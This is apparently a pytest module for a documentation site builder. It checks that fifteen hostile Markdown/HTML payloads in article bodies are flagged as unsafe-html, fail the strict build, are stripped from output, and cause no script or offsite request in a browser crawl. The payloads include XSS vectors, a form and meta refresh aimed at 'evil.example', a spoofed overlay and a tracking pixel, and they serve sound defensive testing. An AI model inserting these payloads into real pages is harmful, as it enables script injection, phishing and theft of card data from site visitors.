"""Hostile markup in article bodies: each way around a source scan, through `kb check`, the
strict build (the output allowlist, `kb/html_policy.py`) and Chromium.

Every payload ends as an `unsafe-html` (KB304) finding with its file and line, and the strict
build fails on it; the plain build takes it out, so no page opens a dialog, navigates or asks
another host for anything. Some payloads are invisible to the fast source scan (a comment the
browser ends early, an inline style): the build's check of the rendered HTML still catches them.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import TYPE_CHECKING, Any

import pytest

from kb.csp import read_policy, script_hashes_of
from kb.html_allowlist import HtmlPolicy
from kb.html_policy import check_page

from .conftest import Crawler, write_site

if TYPE_CHECKING:
    from .conftest import BuildRun, CheckRun, Incident

pytestmark = pytest.mark.browser

EMBED = "https://www.youtube-nocookie.com/embed/"
PAYLOAD_LINE = 9
"""File line of the payload in each article (after five lines of front matter and a title)."""

PAYLOADS: dict[str, tuple[str, bool]] = {
    # name: (Markdown line, whether kb check's source scan sees it too)
    "attribute-list-handler": ('![diagram](missing.png){ onerror="alert(1)" }', True),
    "heading-autofocus": ('## Pay now { autofocus onfocus="alert(1)" }', True),
    "attribute-list-href": ('[Dashboard](https://example.com){ href="javascript:alert(1)" }', True),
    "base": ('<base href="https://evil.example/">', True),
    "meta-refresh": ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', True),
    "srcdoc": (f'<iframe src="{EMBED}x" srcdoc="<script>alert(1)</script>"></iframe>', True),
    "svg-animate-href": (
        '<svg><a><animate attributeName="href" values="javascript:alert(1)"/>'
        '<text x="20" y="20">Pay</text></a></svg>',
        True,
    ),
    "slash-separated-tag": ("<img/src=x/onerror=alert(1)>", True),
    "svg-onload": ("<svg/onload=alert(1)>", True),
    "entity-scheme": ('<a href="&#106;avascript:alert(1)">Pay</a>', True),
    "data-html-link": ("[Pay](data:text/html,<script>alert(1)</script>)", True),
    "form": ('<form action="https://evil.example/"><input name="card"></form>', True),
    "comment-ended-early": ("<!-- --!><img src=x onerror=alert(1)> -->", False),
    "overlay-style": ('<p style="position:fixed;inset:0">Re-enter your card</p>', False),
    "tracking-pixel": ('<img src="https://evil.example/pixel.gif" alt="">', False),
}


def _article(name: str, payload: str) -> str:
    return (
        f"---\ntitle: {name}\ndescription: A hostile body.\nproducts: [payments]\n---\n\n"
        f"# {name}\n\n{payload}\n\nText after the payload.\n"
    )


def _path(name: str) -> str:
    return f"docs/en/payments/{name}.md"


@dataclass
class Gates:
    check: CheckRun
    strict: BuildRun
    built: BuildRun
    incidents: list[Incident]


@pytest.fixture(scope="module")
def gates(tmp_path_factory: pytest.TempPathFactory, hostile_browser: Any) -> Gates:
    files = {_path(name): _article(name, payload) for name, (payload, _) in PAYLOADS.items()}
    files["docs/en/_redirects"] = "/*  https://evil.example/ 301!\n"
    files["docs/en/_headers"] = "/*\n  Content-Security-Policy: default-src *\n"
    site = write_site(
        tmp_path_factory.mktemp("markup"), files, content={"embed_allowlist": [EMBED]}
    )
    check = site.check()
    strict = site.build(strict=True)
    built = site.build(strict=False)
    incidents = Crawler(hostile_browser).crawl(built.site)
    return Gates(check, strict, built, incidents)


def test_no_page_runs_script_navigates_or_leaves_the_site(gates: Gates) -> None:
    assert gates.built.exit_code == 0, gates.built.output
    assert not gates.built.crashed, gates.built.output
    # The srcdoc payload's iframe keeps its src, an embed the configuration allows (its
    # `srcdoc` is taken out, so the iframe loads that page, not the attacker's document).
    incidents = [
        incident
        for incident in gates.incidents
        if not (incident.kind == "offsite-request" and incident.detail.startswith(EMBED))
    ]
    assert incidents == [], "\n".join(map(str, incidents))


@pytest.mark.parametrize("name", list(PAYLOADS))
def test_each_payload_is_a_finding_on_its_line_and_the_strict_build_fails(
    gates: Gates, name: str
) -> None:
    assert gates.strict.exit_code != 0
    assert not gates.strict.crashed, gates.strict.output
    assert f"{_path(name)}:{PAYLOAD_LINE}: KB304 unsafe-html" in gates.strict.output
    seen_by_scan = PAYLOADS[name][1]
    if seen_by_scan:
        assert gates.check.find("unsafe-html", _path(name)), gates.check.findings
        assert {f["line"] for f in gates.check.find("unsafe-html", _path(name))} == {PAYLOAD_LINE}


@pytest.mark.parametrize("name", list(PAYLOADS))
def test_the_plain_build_keeps_only_what_the_allowlist_allows(gates: Gates, name: str) -> None:
    policy = HtmlPolicy(
        embed_allowlist=(EMBED,),
        trusted_scripts=script_hashes_of(read_policy(gates.built.site) or ""),
    )
    for page in (f"payments/{name}/index.html", f"ja/payments/{name}/index.html"):
        html = (gates.built.site / page).read_text(encoding="utf-8")
        assert check_page(html, policy).violations == [], page
        assert "Text after the payload." in html


def test_the_build_reports_each_payload_once(gates: Gates) -> None:
    """The English build reports a body; the Japanese fallback copy of it is not reported again,
    and what the source scan already said is not said twice."""
    for name in PAYLOADS:
        lines = [
            line
            for line in gates.strict.output.splitlines()
            if f"{_path(name)}:{PAYLOAD_LINE}: KB304" in line
        ]
        messages = [line.split("KB304 unsafe-html: ", 1)[1] for line in lines]
        assert len(messages) == len(set(messages)), lines


def test_a_docs_folder_cannot_configure_the_host(gates: Gates) -> None:
    """Netlify and Cloudflare Pages read `_redirects` and `_headers` from the published folder:
    a writer's copy is a finding, never published; `_headers` is the build's own policy."""
    assert gates.check.find("unsafe-file-name", "docs/en/_redirects")
    assert gates.check.find("unsafe-file-name", "docs/en/_headers")
    assert not (gates.built.site / "_redirects").exists()
    assert "default-src 'self'" in (gates.built.site / "_headers").read_text(encoding="utf-8")
